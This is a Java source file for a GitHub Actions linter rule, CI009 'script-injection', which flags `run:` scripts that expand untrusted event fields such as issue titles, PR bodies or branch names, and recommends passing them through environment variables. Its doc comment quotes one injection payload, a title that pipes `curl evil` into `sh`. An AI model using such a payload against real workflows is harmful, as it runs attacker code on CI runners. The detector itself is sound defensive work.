package dev.bulwark.rules.workflow;

import dev.bulwark.core.Practice;
import dev.bulwark.core.Severity;
import dev.bulwark.rules.RuleInfo;
import dev.bulwark.rules.SpanSink;
import dev.bulwark.workflow.Expression;
import dev.bulwark.workflow.Job;
import dev.bulwark.workflow.Step;
import dev.bulwark.workflow.Workflow;
import java.util.List;

/**
 * A {@code run:} script that expands, with {@code ${{ }}}, an event field an outsider controls: an
 * issue, pull request, comment, review or discussion title or body, a branch name
 * ({@code head_ref}), commit messages and authors. The runner pastes the text into the script
 * before the shell parses it, so a title like {@code "; curl evil | sh #} runs. The list follows
 * GitHub Security Lab's "untrusted input" list.
 */
@RuleInfo(code = "CI009", name = "script-injection", practice = Practice.SECURITY,
        severity = Severity.ERROR,
        summary = "A `run:` script expands an untrusted event field with `${{ }}` (script injection).",
        fix = "Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use `\"$TITLE\"` in the script.",
        aliases = {"CKV_GHA_2"})
public final class ScriptInjection implements WorkflowRule {
    // Untrusted fields (securitylab.github.com, "Keeping your GitHub Actions and workflows secure
    // Part 2: Untrusted input"; GitHub's "Understanding the risk of script injections"); `*` is one
    // path segment or index. Fields maintainers control (release notes, the repository's default
    // branch) are not in it.
    private static final List<String> UNTRUSTED = List.of(
            "github.event.issue.title", "github.event.issue.body",
            "github.event.pull_request.title", "github.event.pull_request.body",
            "github.event.comment.body", "github.event.review.body", "github.event.review_comment.body",
            "github.event.discussion.title", "github.event.discussion.body",
            "github.event.pages.*.page_name",
            "github.event.commits.*.message", "github.event.commits.*.author.email", "github.event.commits.*.author.name",
            "github.event.head_commit.message", "github.event.head_commit.author.email",
            "github.event.head_commit.author.name",
            "github.event.pull_request.head.ref", "github.event.pull_request.head.label",
            "github.event.pull_request.head.repo.default_branch",
            "github.event.workflow_run.head_branch", "github.event.workflow_run.head_commit.message",
            "github.event.workflow_run.head_commit.author.email", "github.event.workflow_run.head_commit.author.name",
            "github.event.workflow_run.pull_requests.*.head.ref", "github.head_ref");

    @Override
    public void check(WorkflowContext ctx, SpanSink sink) {
        Workflow w = ctx.workflow();
        for (Job job : w.jobs()) {
            for (Step step : job.steps()) {
                if (step.run().isEmpty()) {
                    continue;
                }
                for (Expression e : step.run().get().expressions()) {
                    String field = untrusted(e.inner());
                    if (!field.isEmpty()) {
                        sink.report(w.span(e.range()), "`" + field + "` expanded into a shell script");
                    }
                }
            }
        }
    }

    /** The untrusted field the expression reads (the first one), empty when none. */
    static String untrusted(String expression) {
        int from = 0;
        while (true) {
            int at = expression.indexOf("github.", from);
            if (at < 0) {
                return "";
            }
            int end = at;
            while (end < expression.length() && isPathChar(expression.charAt(end))) {
                end++;
            }
            String field = expression.substring(at, end);
            for (String pattern : UNTRUSTED) {
                if (matches(pattern, field)) {
                    return field;
                }
            }
            from = end;
        }
    }

    private static boolean isPathChar(char c) {
        return Character.isLetterOrDigit(c) || c == '.' || c == '_' || c == '-' || c == '*' || c == '[' || c == ']';
    }

    /** {@code commits.*.message} matches {@code commits[0].message}, {@code commits.*.message}. */
    private static boolean matches(String pattern, String field) {
        String[] want = pattern.split("\\.");
        String[] got = field.replace("[", ".").replace("]", "").split("\\.");
        if (want.length != got.length) {
            return false;
        }
        for (int i = 0; i < want.length; i++) {
            if (!want[i].equals("*") && !want[i].equals(got[i])) {
                return false;
            }
        }
        return true;
    }
}
